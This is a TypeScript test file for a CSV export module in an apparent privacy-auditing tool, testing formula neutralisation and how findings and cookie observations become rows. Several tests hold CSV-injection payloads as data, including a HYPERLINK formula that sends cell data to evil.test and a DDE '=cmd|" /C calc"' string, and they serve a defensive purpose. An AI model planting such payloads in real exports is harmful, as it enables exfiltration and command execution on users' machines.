import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { findingsToCsv, neutraliseFormula, observationsToCsv } from '../../lib/export/csv';
import { observation, sampleReport } from './export-fixture';

/** Parses CSV text back into header-keyed rows, failing the test on any parse error. */
function parse(csv: string): Record<string, string>[] {
  const result = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('neutraliseFormula', () => {
  it.each(['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://x")\nsecond line'])(
    'prefixes a quote to %j',
    (cell) => {
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    },
  );

  it.each(['IDE', 'https://a.test/?q==1', ' =1', "'=already"])('leaves %j alone', (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('leaves numbers and booleans alone, since their text cannot be a formula', () => {
    expect(neutraliseFormula(-1)).toBe(-1);
    expect(neutraliseFormula(false)).toBe(false);
  });
});

describe('findingsToCsv', () => {
  it('ends every file with exactly one line break', () => {
    expect(findingsToCsv(sampleReport())).toMatch(/[^\n]\r\n$/);
  });

  it('writes one row per finding with joined lists, clause quotes and counts', () => {
    const rows = parse(findingsToCsv(sampleReport()));
    expect(rows.map((r) => r.id)).toEqual(['f-disclosed', 'f-undisclosed', 'f-tech', 'f-category', 'f-first']);
    const google = rows[0]!;
    expect(google).toMatchObject({
      status: 'disclosed',
      subject: 'Google',
      organization: 'Google LLC',
      category: 'Analytics',
      domains: 'google-analytics.com',
      kinds: 'request',
      clauseIds: 'c1',
      clauseQuotes: 'c1: We use Google Analytics to understand how visitors use the shop.',
      observationCount: '1',
    });
    expect(rows[1]).toMatchObject({ status: 'undisclosed', clauseIds: '', clauseQuotes: '', organization: '' });
  });

  it('keeps the clauseQuotes column but leaves it empty when the report quotes no policy', () => {
    const report = { ...sampleReport(), declarations: undefined, unmatchedDeclarations: undefined };
    const rows = parse(findingsToCsv(report));
    expect(rows[0]).toMatchObject({ clauseIds: 'c1', clauseQuotes: '' });
  });

  it('reads quotes from full policy declarations, where the quote sits under clause', () => {
    const report = sampleReport();
    report.declarations = [{ id: 'c1', clause: { section: 'Analytics', quote: 'We use Google Analytics.' }, parties: [] }];
    report.unmatchedDeclarations = [];
    expect(parse(findingsToCsv(report))[0]!.clauseQuotes).toBe('c1: We use Google Analytics.');
  });

  it('joins several domains and clause quotes', () => {
    const report = sampleReport();
    report.findings[0] = { ...report.findings[0]!, domains: ['a.test', 'b.test'], clauseIds: ['c1', 'c2'] };
    const row = parse(findingsToCsv(report))[0]!;
    expect(row.domains).toBe('a.test b.test');
    expect(row.clauseQuotes?.split('\n')).toEqual([
      'c1: We use Google Analytics to understand how visitors use the shop.',
      'c2: Our analytics partners may store identifiers on your device.',
    ]);
  });

  it('adds reviewer and technology columns only when some finding carries them', () => {
    const plain = Papa.parse<string[]>(findingsToCsv(sampleReport())).data[0]!;
    expect(plain).not.toContain('reviewVerdict');
    expect(plain).not.toContain('technologies');

    const report = sampleReport();
    Object.assign(report.findings[1]!, {
      review: { verdict: 'not-compliant', comment: 'Pixel fires on the cart, "legal" to follow up' },
      technologies: ['beacon', 'script'],
    });
    Object.assign(report.findings[2]!, { review: {} });
    const rows = parse(findingsToCsv(report));
    expect(rows[1]).toMatchObject({
      reviewVerdict: 'not-compliant',
      reviewComment: 'Pixel fires on the cart, "legal" to follow up',
      technologies: 'beacon script',
    });
    expect(rows[2]).toMatchObject({ reviewVerdict: '', reviewComment: '', technologies: '' });
  });

  it('writes only the header for a report without findings', () => {
    const csv = findingsToCsv({ ...sampleReport(), findings: [] });
    expect(csv).toMatch(/^\uFEFFid,status,subject,[^\r\n]*\r\n$/);
  });
});

describe('observationsToCsv', () => {
  it('flattens cookie and storage details into columns', () => {
    const rows = parse(observationsToCsv(sampleReport()));
    expect(rows).toHaveLength(5);
    expect(rows[1]).toMatchObject({
      kind: 'cookie',
      name: 'IDE',
      via: 'http',
      'cookie.domain': '.doubleclick.net',
      'cookie.lifetimeSeconds': '34214400',
      'cookie.secure': 'true',
      'cookie.httpOnly': 'true',
      'cookie.sameSite': 'no_restriction',
      'storage.key': '',
    });
    expect(rows[2]).toMatchObject({
      source: 'page-hook',
      'storage.area': 'localStorage',
      'storage.key': '_hjSession',
      'storage.valueSize': '120',
      'cookie.domain': '',
    });
    expect(rows[0]).toMatchObject({ time: String(Date.UTC(2026, 0, 1, 12, 0, 1)), timeIso: '2026-01-01T12:00:01.000Z' });
  });

  it('spells out session cookies instead of leaving the lifetime blank', () => {
    const report = sampleReport();
    report.observations = [
      observation({ id: 's', kind: 'cookie', name: 'sid', cookie: { domain: 'shop.test', path: '/', lifetimeSeconds: null } }),
    ];
    expect(parse(observationsToCsv(report))[0]!['cookie.lifetimeSeconds']).toBe('session');
  });

  it('round-trips hostile cells: commas, quotes, newlines and formulas', () => {
    const hostile = {
      name: 'a,b "quoted"\nnext line',
      url: '=HYPERLINK("https://evil.test/?"&A1,"click")',
      storageKey: '@SUM(A1)',
      sessionCookie: '-1+1',
      tabbed: '\t=cmd',
    };
    const report = sampleReport();
    report.observations = [
      observation({
        id: 'x',
        kind: 'storage',
        name: hostile.name,
        url: hostile.url,
        reason: hostile.tabbed,
        storage: { area: 'localStorage', origin: 'https://www.shop.test', key: hostile.storageKey, valuePreview: hostile.sessionCookie },
      }),
    ];
    const row = parse(observationsToCsv(report))[0]!;
    expect(row.name).toBe(hostile.name);
    expect(row.url).toBe(`'${hostile.url}`);
    expect(row['storage.key']).toBe(`'${hostile.storageKey}`);
    expect(row['storage.valuePreview']).toBe(`'${hostile.sessionCookie}`);
    expect(row.reason).toBe(`'${hostile.tabbed}`);
    expect(row.tabId).toBe('');
  });

  it('neutralises formulas in the findings sheet too, including the header-derived lists', () => {
    const report = sampleReport();
    report.findings[0] = { ...report.findings[0]!, subject: '=cmd|" /C calc"!A0', domains: ['+evil.test'] };
    const row = parse(findingsToCsv(report))[0]!;
    expect(row.subject).toBe(`'=cmd|" /C calc"!A0`);
    expect(row.domains).toBe(`'+evil.test`);
  });
});
